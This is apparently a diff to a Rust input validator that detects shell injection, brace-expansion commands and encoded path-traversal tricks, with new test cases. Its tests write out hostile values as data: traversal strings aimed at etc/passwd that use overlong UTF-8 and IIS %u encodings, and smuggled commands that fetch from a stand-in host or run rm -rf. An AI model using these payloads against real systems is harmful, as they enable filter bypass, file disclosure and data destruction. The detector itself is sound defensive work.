@@ -33,7 +33,19 @@ fn re(s: &str) -> Regex {
 /// Shell syntax that runs something, in a value that is not a command.
 static SHELL_SYNTAX: LazyLock<Regex> = LazyLock::new(|| {
     re(
-        r"\$\([^)]*\)|<\([^)]*\)|`[^`]+`|\$\{?ifs\}?|;\s*(sudo\s+)?[a-z/~.][\w./~-]*(\s|$)|[;&|]\s*\{[^{}]*,[^{}]*\}|(&&|\|\|)\s*\S|\|\s*(sudo\s+)?(/\S*/)?(sh|bash|zsh|dash|ksh|nc|ncat|socat|curl|wget|python3?|perl|php|ruby|node|tee|xargs|base64)\b",
+        r"\$\([^)]*\)|<\([^)]*\)|`[^`]+`|\$\{?ifs\}?|;\s*(sudo\s+)?[a-z/~.][\w./~-]*(\s|$)|(&&|\|\|)\s*\S|\|\s*(sudo\s+)?(/\S*/)?(sh|bash|zsh|dash|ksh|nc|ncat|socat|curl|wget|python3?|perl|php|ruby|node|tee|xargs|base64)\b",
+    )
+});
+
+/// Brace expansion that runs a command without a space (`;{rm,-rf,~}`):
+/// after a separator (`;`, `&`, a newline, or one percent-encoded), a
+/// brace group with no whitespace whose first word is a command and which
+/// holds a comma (one level of nesting); at the start of a value, only
+/// when that word is a command that fetches, runs or destroys. `{date}`,
+/// `{name, id}` and `*.{js,ts}` are not commands.
+static BRACE_COMMAND: LazyLock<Regex> = LazyLock::new(|| {
+    re(
+        r"([;&\n]|%0a|%3b|%26)\s*\{[a-z][\w./-]*,([^{}\s]|\{[^{}\s]*\})*\}|^\s*\{(rm|curl|wget|sh|bash|zsh|dash|nc|ncat|socat|python3?|perl|ruby|php|node|chmod|chown|dd|mkfs|kill|pkill|shutdown|reboot|base64|scp|ssh|eval|exec|sudo|tee|xargs),([^{}\s]|\{[^{}\s]*\})*\}",
     )
 });
 
@@ -51,7 +63,7 @@ static CLIMB: LazyLock<Regex> = LazyLock::new(|| re(r"(^|/)\.{2,}(/|$)"));
 /// Tricks that only make sense to get a climb past a filter.
 static EVASION: LazyLock<Regex> = LazyLock::new(|| {
     re(
-        r"%(25)*2e|%(25)*2f|%(25)*5c|%(25)*c0%(25)*a[ef]|%(25)*c1%(25)*[19]c|%(25)*e0%(25)*80%(25)*a[ef]|\.{3,}/|\.\.\\+/|\.\./+\./|\.\.//",
+        r"%(25)*2e|%(25)*2f|%(25)*5c|%(25)*c[01]|%(25)*e0%(25)*[89]|%(25)*f0%(25)*8|%(25)*u[0-9a-f]{4}|\.{3,}/|\.\.\\+/|\.\./+\./|\.\.//",
     )
 });
 
@@ -62,7 +74,7 @@ static SYSTEM_DIR: LazyLock<Regex> = LazyLock::new(|| {
 
 /// Markup that runs where the value is rendered.
 static ACTIVE: LazyLock<Regex> =
-    LazyLock::new(|| re(r"\bon[a-z]{3,}\s*=|\b(javascript|vbscript)\s*:"));
+    LazyLock::new(|| re(r#"\bon[a-z]{3,}\s*=|\b(javascript|vbscript)\s*:\s*[^\s,;\]"')]"#));
 
 /// The parameter a supplied value belongs to: read from the schema's root,
 /// the name after the last `properties` keyword before the value's own
@@ -89,13 +101,27 @@ fn parameter(pointer: &str) -> Option<String> {
     name.map(|n| n.replace("~1", "/").replace("~0", "~"))
 }
 
-/// Percent-decodes `s` once; `None` when nothing changed.
+/// Percent-decodes `s` once (`%uXXXX` too, as IIS does); `None` when
+/// nothing changed. The bytes are read as a lenient server would: an
+/// overlong UTF-8 form of an ASCII character is that character (`%c0%af`
+/// and `%e0%80%af` are `/`), and bytes that form no character are dropped.
 fn percent_decode(s: &str) -> Option<String> {
     let bytes = s.as_bytes();
     let mut out = Vec::with_capacity(bytes.len());
     let mut i = 0;
     let mut changed = false;
     while i < bytes.len() {
+        if bytes[i] == b'%'
+            && matches!(bytes.get(i + 1), Some(b'u' | b'U'))
+            && let Some(hex) = s.get(i + 2..i + 6)
+            && let Some(c) = u32::from_str_radix(hex, 16).ok().and_then(char::from_u32)
+        {
+            let mut buf = [0; 4];
+            out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
+            i += 6;
+            changed = true;
+            continue;
+        }
         if bytes[i] == b'%'
             && let Some(hex) = s.get(i + 1..i + 3)
             && let Ok(b) = u8::from_str_radix(hex, 16)
@@ -108,34 +134,69 @@ fn percent_decode(s: &str) -> Option<String> {
         out.push(bytes[i]);
         i += 1;
     }
-    changed.then(|| String::from_utf8_lossy(&out).into_owned())
+    changed.then(|| lenient_utf8(&out))
 }
 
-/// Overlong UTF-8 encodings of `/`, `\` and `.`, percent-encoded.
-const OVERLONG: [(&str, &str); 6] = [
-    ("%c0%af", "/"),
-    ("%e0%80%af", "/"),
-    ("%c1%9c", "\\"),
-    ("%c1%1c", "\\"),
-    ("%c0%ae", "."),
-    ("%e0%80%ae", "."),
-];
+/// UTF-8 read as a lenient decoder does: overlong forms of ASCII characters
+/// (two, three or four bytes) are those characters, and bytes that form no
+/// character are dropped (not replaced, so `..<bad>/` still climbs).
+fn lenient_utf8(bytes: &[u8]) -> String {
+    let continuation = |b: Option<&u8>| b.is_some_and(|b| b & 0xC0 == 0x80);
+    let mut out = String::with_capacity(bytes.len());
+    let mut i = 0;
+    while i < bytes.len() {
+        let rest = &bytes[i..];
+        // An overlong form: the lead byte leaves no room for more than 7 bits.
+        let overlong = match rest {
+            [0xC0 | 0xC1, ..] if continuation(rest.get(1)) => Some(2),
+            [0xE0, b, ..] if *b & 0xE0 == 0x80 && continuation(rest.get(2)) => Some(3),
+            [0xF0, b, ..]
+                if *b & 0xF0 == 0x80 && continuation(rest.get(2)) && continuation(rest.get(3)) =>
+            {
+                Some(4)
+            }
+            _ => None,
+        };
+        if let Some(n) = overlong {
+            let value = rest[1..n].iter().fold(u32::from(rest[0] & 0x07), |acc, b| {
+                (acc << 6) | u32::from(b & 0x3F)
+            });
+            if let Some(c) = char::from_u32(value).filter(char::is_ascii) {
+                out.push(c);
+            }
+            i += n;
+            continue;
+        }
+        let valid = match std::str::from_utf8(rest) {
+            Ok(all) => all,
+            Err(e) => std::str::from_utf8(&rest[..e.valid_up_to()]).unwrap_or_default(),
+        };
+        if valid.is_empty() {
+            // One byte that starts no character: dropped.
+            i += 1;
+        } else {
+            out.push_str(valid);
+            i += valid.len();
+        }
+    }
+    out
+}
+
+/// Most rounds of percent-decoding a path gets (each a server or proxy may apply).
+const MAX_DECODES: usize = 6;
 
 /// The path a value names once decoded and collapsed as a server would.
 fn normalised_path(value: &str) -> String {
     let mut s = value.to_lowercase();
-    for _ in 0..3 {
-        // Overlong UTF-8 forms of `/`, `\` and `.`, which lenient decoders
-        // still read as those characters.
-        for (overlong, plain) in OVERLONG {
-            s = s.replace(overlong, plain);
-        }
+    for _ in 0..MAX_DECODES {
         match percent_decode(&s) {
             Some(next) => s = next,
             None => break,
         }
     }
-    let mut s = s.replace(['\\', '／'], "/").replace('．', ".");
+    let mut s = s
+        .replace(['\\', '／', '∕', '⁄'], "/")
+        .replace(['．', '․'], ".");
     while s.contains("//") || s.contains("/./") {
         s = s.replace("//", "/").replace("/./", "/");
     }
@@ -158,7 +219,9 @@ pub(crate) fn check(field: &TextField<'_>, hits: &mut Vec<Hit>) {
     let command = parameter(&field.pointer)
         .is_some_and(|p| COMMAND_PARAMETER.is_match(&super::text::fold(&p, false)));
     let destroys = super::behaviour::destructive_command(&value);
-    if destroys.is_some() || (!command && SHELL_SYNTAX.is_match(&value)) {
+    if destroys.is_some()
+        || (!command && (SHELL_SYNTAX.is_match(&value) || BRACE_COMMAND.is_match(&value)))
+    {
         hit(
             "tool-unsafe-execution",
             format!("a value the tool supplies itself injects a shell command: \"{shown}\""),
@@ -257,6 +320,44 @@ mod tests {
                 "..%25c0%25af..%25c0%25afroot/x",
                 "tool-secret-exfiltration",
             ),
+            // Overlong forms of any length, a bad lead byte, IIS `%u`, three encodings deep.
+            (
+                "page",
+                "..%c0%2f..%c0%2f..%c0%2fetc/passwd",
+                "tool-secret-exfiltration",
+            ),
+            (
+                "page",
+                "..%f0%80%80%af..%f0%80%80%afx",
+                "tool-secret-exfiltration",
+            ),
+            (
+                "page",
+                "..%e0%81%9c..%e0%81%9cwindows",
+                "tool-secret-exfiltration",
+            ),
+            (
+                "page",
+                "%u002e%u002e%u2215%u002e%u002e%u2215x",
+                "tool-secret-exfiltration",
+            ),
+            (
+                "page",
+                "..%252525c0%252525af..%252525c0%252525afx",
+                "tool-secret-exfiltration",
+            ),
+            (
+                "logo",
+                "logo.svg&{curl,-so,c.example/x}",
+                "tool-unsafe-execution",
+            ),
+            ("logo", "logo.svg;{rm,-rf,{~,/}}", "tool-unsafe-execution"),
+            (
+                "logo",
+                "logo.svg%3b{wget,c.example/x}",
+                "tool-unsafe-execution",
+            ),
+            ("logo", "{rm,-rf,~}", "tool-unsafe-execution"),
         ] {
             let found = with_default(parameter, value);
             assert!(
@@ -303,6 +404,13 @@ mod tests {
             ("header", "Title | Author | Year"),
             ("glob", "src/**/*.{ts,tsx}"),
             ("path", "caf%c3%a9/menu.txt"),
+            ("path", "../caf%C3%A9/menu.txt"),
+            ("path", "../reports/Q1%20summary.pdf"),
+            ("filter", ".items[] | {name, id}"),
+            ("template", "{date} | {amount:,.2f}"),
+            ("message", "{count} files; {total, number} bytes"),
+            ("extensions", "{js,ts}"),
+            ("blocked", "javascript:"),
         ] {
             let found = with_default(parameter, value);
             assert!(found.is_empty(), "{parameter} = {value}: {found:?}");
